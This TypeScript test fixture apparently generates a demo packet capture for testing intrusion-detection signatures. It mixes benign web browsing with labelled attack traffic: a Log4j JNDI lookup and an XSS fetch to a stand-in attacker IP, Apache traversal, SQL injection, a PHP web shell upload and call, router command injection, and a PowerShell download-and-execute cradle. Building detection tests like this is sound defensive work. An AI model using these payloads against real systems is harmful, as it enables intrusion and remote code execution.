/**
 * The bundled capture, signatures/demo.pcap: half a minute on the wire of a small web server and its neighbours.
 *
 * Most of it is people reading pages. In between somebody looks for holes: one attack is cut in small segments, one
 * arrives out of order, one runs over IPv6, one is the third request of a kept-alive connection, two show only in the
 * responses (one of them chunked). `demoPackets` makes the same packets each time; the test beside this file compares
 * them with the file and states which signatures fire.
 */
import {
  type ConversationOptions,
  conversation,
  merge,
  resegment,
  shuffle,
  type TestPacket,
} from '../../test/support/conversation.js'
import { chunked, type Exchange, get, type Headers, post, reply } from './traffic.js'

/** 21 November 2026, 09:30 UTC. */
const START = 1_795_253_400

const WEB = '192.0.2.80'
const WEB6 = '2001:db8:80::80'
const ROUTER = '192.0.2.1'
const WORKSTATION = '192.0.2.34'
const OUTSIDE_HOST = '198.51.100.99'
const ATTACKER = '198.51.100.23'
const ATTACKER6 = '2001:db8:bad::23'

const PHONE =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1'
const DESKTOP = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0.0.0 Safari/537.36'

const PARAGRAPHS = [
  'The weir below the mill was rebuilt in oak and stone; it has held the level of the upper pond ever since.',
  'Opening hours: Tuesday to Sunday from ten to five, in winter from eleven to four. Dogs are welcome in the garden.',
  'The exhibition on the first floor shows how sluices, wheels and millstones worked together for three centuries.',
  'Groups of more than ten people are asked to book a guided tour; the form is on the page about visits.',
  'Our café bakes its own bread from flour ground on the premises, on Saturdays when the river allows.',
]

/** A page of about `paragraphs` × 120 bytes. */
function page(title: string, paragraphs: number): string {
  const text = Array.from(
    { length: paragraphs },
    (_, i) => `<p>${PARAGRAPHS[i % PARAGRAPHS.length]!.replace('é', '&eacute;')}</p>\n`,
  )
  const head = `<head><meta charset="utf-8"><title>${title}</title><link rel="stylesheet" href="/style.css"></head>`
  return `<!doctype html>\n<html lang="en">${head}\n<body><h1>${title}</h1>\n${text.join('')}</body></html>\n`
}

const STYLE = `body { font: 1rem/1.5 serif; margin: 2rem auto; max-width: 40rem }\nh1 { color: #245 }\n${'a:hover { color: #a40 }\n'.repeat(20)}`
const NOT_FOUND = { status: '404 Not Found' }

/** An answer of the web server to a given request. */
function answer(
  exchange: Exchange,
  body: string,
  options: { status?: string; type?: string } = {},
): Exchange {
  return reply(body, { ...options, request: exchange.request })
}

/** One connection: the exchanges in order, `pause` milliseconds of reading between them. */
function visit(options: ConversationOptions, exchanges: readonly Exchange[], pause = 900): TestPacket[] {
  const talk = conversation({ step: 350, server: WEB, ...options }).handshake()
  exchanges.forEach(({ request, response }, i) => {
    if (i > 0) talk.delay(pause)
    talk.client(request).delay(4).server(response)
  })
  return talk.delay(40).close().packets()
}

function reader(number: number, userAgent: string): { at: ConversationOptions; headers: Headers } {
  return {
    at: {
      client: `203.0.113.${10 + number}`,
      clientPort: 41000 + 7 * number,
      clientIsn: 0x10000000 * number + 77,
    },
    headers: { 'User-Agent': userAgent, Cookie: `session=5f${number}0c9ae; lang=en` },
  }
}

/** Somebody reads three or four pages. */
function innocent(number: number, userAgent: string, start: number, topics: readonly string[]): TestPacket[] {
  const { at, headers } = reader(number, userAgent)
  const pages = topics.map((topic, i) =>
    answer(
      get(`/${topic}?from=menu&visit=${number * 10 + i}`, headers),
      page(`The mill: ${topic}`, 6 + 4 * i),
    ),
  )
  const style = answer(get('/style.css', headers), STYLE, { type: 'text/css' })
  return visit({ ...at, start: START + start }, [pages[0]!, style, ...pages.slice(1)])
}

function attacker(port: number, start: number): ConversationOptions {
  return { client: ATTACKER, clientPort: port, clientIsn: 0xfffffe00 + port, start: START + start }
}

/** What fires, in order of time: [sid, how often]. */
export const DEMO_ALERTS: readonly (readonly [sid: number, times: number])[] = [
  [9009001, 3], // Nikto
  [9011001, 1], // /.git/config
  [9011002, 1], // /.env
  [9002002, 1], // Log4j lookup in a header, in 5-byte segments
  [9005001, 1], // Apache 2.4.49 traversal, out of order
  [9006001, 1], // union select, third request of a kept-alive connection
  [9012001, 1], // the MySQL error it provokes, in a chunked response
  [9007001, 1], // script in URI, IPv6
  [9004001, 1], // PHPUnit
  [9008009, 1], // PHP shell uploaded
  [9008012, 1], // and called
  [9008013, 1], // and its output, in a chunked response
  [9010011, 1], // TP-Link command injection against the router
  [9013020, 1], // PowerShell cradle fetched by a workstation
]

export function demoPackets(): TestPacket[] {
  const nikto = { 'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)' }
  const probe = visit(
    attacker(50100, 3),
    [
      answer(get('/', nikto), page('The mill', 4)),
      answer(get('/.git/config', nikto), page('Not found', 1), NOT_FOUND),
      answer(get('/.env', nikto), page('Not found', 1), NOT_FOUND),
    ],
    300,
  )

  const log4j = resegment(
    visit(attacker(50104, 6.2), [
      answer(
        // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
        get('/visits', { 'User-Agent': '${jndi:ldap://198.51.100.23:1389/a}' }),
        page('The mill: visits', 6),
      ),
    ]),
    5,
  )

  const traversal = shuffle(
    resegment(
      visit(attacker(50111, 9.1), [
        answer(get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'), page('Forbidden', 1), { status: '403 Forbidden' }),
      ]),
      40,
    ),
    7,
  )

  const injection = visit(attacker(50120, 12), [
    answer(get('/exhibits?id=3', { 'User-Agent': DESKTOP }), page('The mill: exhibits', 5)),
    answer(get('/exhibits?id=4', { 'User-Agent': DESKTOP }), page('The mill: exhibits', 5)),
    chunked(
      page('Error', 2).replace(
        '<h1>Error</h1>',
        '<h1>Error</h1><pre>You have an error in your SQL syntax; check the manual near UNION</pre>',
      ),
      90,
      { request: get('/exhibits?id=-1+UNION+ALL+SELECT+1,2,version()--', { 'User-Agent': DESKTOP }).request },
    ),
  ])

  const script = visit({ client: ATTACKER6, server: WEB6, clientPort: 50131, start: START + 15.5 }, [
    answer(get('/search?q=oak', { 'User-Agent': PHONE }), page('Search: oak', 3)),
    answer(
      get('/search?q=%3Cscript%3Efetch(%27//198.51.100.23/%27)%3C/script%3E', { 'User-Agent': PHONE }),
      page('Search', 1),
    ),
  ])

  const phpunit = visit(attacker(50140, 18), [
    answer(
      post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo 7*6;'),
      page('Not found', 1),
      NOT_FOUND,
    ),
  ])

  const form =
    '--x7\r\nContent-Disposition: form-data; name="photo"; filename="a.php"\r\nContent-Type: image/jpeg\r\n\r\n' +
    '<?php passthru($_GET["c"]); ?>\r\n--x7--\r\n'
  const shell = visit(attacker(50151, 20.4), [
    answer(
      post('/guestbook', form, { 'Content-Type': 'multipart/form-data; boundary=x7' }),
      page('Thank you', 1),
    ),
    chunked('uid=33(www-data) gid=33(www-data) groups=33(www-data)\n', 16, {
      type: 'text/plain',
      request: get('/uploads/a.php?c=id').request,
    }),
  ])

  const router = visit({ ...attacker(50160, 23.7), server: ROUTER }, [
    answer(
      get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(reboot)'),
      '{"success":false}\n',
      { type: 'application/json' },
    ),
  ])

  const cradle = visit({ client: WORKSTATION, clientPort: 52044, server: OUTSIDE_HOST, start: START + 26 }, [
    answer(
      get('/invoice.ps1', { Host: 'files.example.net', 'User-Agent': 'Mozilla/5.0 WindowsPowerShell/5.1' }),
      "$ErrorActionPreference = 'Stop'\r\nIEX (New-Object Net.WebClient).DownloadString('http://198.51.100.99/b.ps1')\r\n",
      { type: 'text/plain' },
    ),
  ])

  return merge(
    innocent(1, DESKTOP, 0, ['home', 'history', 'visits']),
    innocent(2, PHONE, 1.3, ['home', 'exhibits']),
    probe,
    innocent(3, PHONE, 4.8, ['shop', 'shop/flour', 'shop/basket']),
    log4j,
    innocent(4, DESKTOP, 7.7, ['history', 'exhibits', 'garden', 'visits']),
    traversal,
    injection,
    innocent(5, DESKTOP, 14.2, ['home', 'search']),
    script,
    phpunit,
    innocent(6, PHONE, 19.5, ['visits', 'visits/form']),
    shell,
    router,
    innocent(7, DESKTOP, 24.4, ['home', 'history', 'garden']),
    cradle,
    innocent(8, PHONE, 27, ['shop', 'home']),
  )
}
